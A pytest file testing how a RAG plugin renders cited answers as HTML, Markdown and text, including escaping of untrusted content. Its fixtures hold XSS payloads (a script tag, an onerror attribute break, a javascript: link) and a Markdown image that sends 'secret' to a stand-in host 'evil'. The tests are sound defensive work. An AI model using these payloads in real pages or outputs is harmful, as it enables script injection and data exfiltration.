"""Answers as text, Markdown and HTML: figures where they are cited, everything escaped."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import html as lxml_html
from markdown_it import MarkdownIt
from PIL import Image

from xmrag_plugin.answers.citations import check_citations
from xmrag_plugin.answers.context import Evidence
from xmrag_plugin.answers.rendering import answer_html, answer_markdown, answer_text, picture_uri
from xmrag_plugin.types import Key, Modality

EVIL = "<script>alert(1)</script>"


@pytest.fixture
def evidence(tmp_path: Path) -> list[Evidence]:
    found = [Evidence(1, "t", f"a{EVIL}.md", "Clay holds water.", metadata={Key.PAGE: 3})]
    for n, name in ((2, "map.png"), (3, "photo one.jpg")):
        Image.effect_noise((1800, 900), 50).convert("RGB").save(tmp_path / name)
        caption = f'Figure {n}: {EVIL} "onerror=x'
        found.append(
            Evidence(
                n, f"f{n}", "b.md", caption, Modality.IMAGE, media_file=str(tmp_path / name),
                metadata={Key.CAPTION: caption},
            )
        )  # fmt: skip
    return found


ANSWER = f"Clay holds water [1]. {EVIL}\n\nThe map shows it [2], the map again [2].\n\nAnd the photo [3][?] says 9 % [1?]."


def cited(evidence: list[Evidence]) -> list[dict[str, object]]:
    return [citation.as_json() for citation in check_citations(ANSWER.replace("?", ""), evidence).citations]


def test_html_is_escaped_and_shows_each_figure_once_after_the_paragraph_that_cites_it(
    evidence: list[Evidence],
) -> None:
    page = answer_html(ANSWER, cited(evidence), evidence, embed=True, anchor='a"><b')
    assert "<script" not in page
    tree = lxml_html.fromstring(page)
    children = [child.tag for child in tree]
    assert children == ["p", "p", "figure", "p", "figure", "ol"]
    pictures = tree.xpath("//img/@src")
    assert len(pictures) == 2
    assert all(src.startswith("data:image/") for src in pictures)
    assert not tree.xpath("//*[@onerror]")
    links = tree.xpath("//a/@href")
    assert links[0] == "#ab-1"
    assert tree.xpath("//li[@id='ab-1']")
    assert "xmrag-doubt" in page


def test_markdown_places_figures_and_lets_no_html_through(evidence: list[Evidence]) -> None:
    text = answer_markdown(ANSWER, cited(evidence), evidence)
    assert "<script" not in text
    assert text.count("![") == 2
    assert text.index("The map shows it") < text.index("map.png") < text.index("And the photo")
    assert "photo%20one.jpg" in text
    assert "**Sources**" in text
    assert "data:image/" in answer_markdown(ANSWER, cited(evidence), evidence, embed=True)


def test_links_and_pictures_of_the_models_making_do_not_survive(evidence: list[Evidence]) -> None:
    text = answer_markdown("See ![x](http://evil/?q=secret) and [y](javascript:alert(1)) [1].", [], evidence)
    assert "![x]" not in text
    text += answer_markdown("True [1].\n\n[1]: http://evil", [], evidence)
    rendered = MarkdownIt("commonmark").render(text)
    assert "<a" not in rendered
    assert "<img" not in rendered


def test_text_for_a_terminal(evidence: list[Evidence]) -> None:
    text = answer_text(ANSWER, cited(evidence))
    assert "[2] b.md" in text
    assert ", p. 3" in text


def test_embedded_pictures_are_bounded(evidence: list[Evidence]) -> None:
    uri = picture_uri(evidence[1], embed=True, max_px=200)
    assert uri is not None
    assert len(uri) < 60_000


def test_a_picture_that_is_gone_leaves_its_words(evidence: list[Evidence]) -> None:
    Path(evidence[1].media_file or "").unlink()
    page = answer_html(ANSWER, cited(evidence), evidence, embed=True)
    assert page.count("<img") == 1


def test_plain_answers_without_citations() -> None:
    assert answer_html("Nothing.", [], []) == '<div class="xmrag-answer">\n<p>Nothing.</p>\n</div>'
    assert answer_markdown("Nothing.", [], []) == "Nothing.\n"
    assert answer_text("Nothing.", []) == "Nothing."
